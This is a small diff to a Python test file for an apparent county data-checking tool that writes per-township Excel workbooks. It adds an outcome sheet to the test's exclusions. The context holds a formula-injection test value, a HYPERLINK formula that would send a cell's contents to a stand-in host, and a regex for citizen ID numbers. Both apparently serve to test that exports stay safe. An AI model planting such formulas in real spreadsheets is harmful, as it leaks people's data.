@@ -15,7 +15,7 @@ from hecha.checks.runner import FINDING_DDL
 from hecha.config import load_policy
 from hecha.reports.exceptions import write_exceptions
 from hecha.reports.html_report import write_html_report
-from hecha.reports.workbooks import COUNTY_BOOK, SUMMARY_SHEET, workbook_stem, write_workbooks
+from hecha.reports.workbooks import COUNTY_BOOK, OUTCOME_SHEET, SUMMARY_SHEET, workbook_stem, write_workbooks
 
 CITIZEN_NUMBER = re.compile(r"(?<![0-9])[0-9]{17}[0-9Xx](?![0-9])|(?<![0-9])[0-9]{15}(?![0-9])")
 FORMULA = '=HYPERLINK("http://x?"&B2,"详情")'
@@ -177,7 +177,7 @@ def test_every_township_gets_its_own_safe_file_and_the_county_book_stays_whole(w
     county = openpyxl.load_workbook(county_book)
     try:
         title = county[SUMMARY_SHEET]["A1"].value
-        listed = [row for sheet in county.worksheets if sheet.title not in (SUMMARY_SHEET, "_meta", "待确认")
+        listed = [row for sheet in county.worksheets if sheet.title not in (SUMMARY_SHEET, OUTCOME_SHEET, "_meta", "待确认")
                   for row in sheet.iter_rows(min_row=2, values_only=True) if any(row)]
     finally:
         county.close()
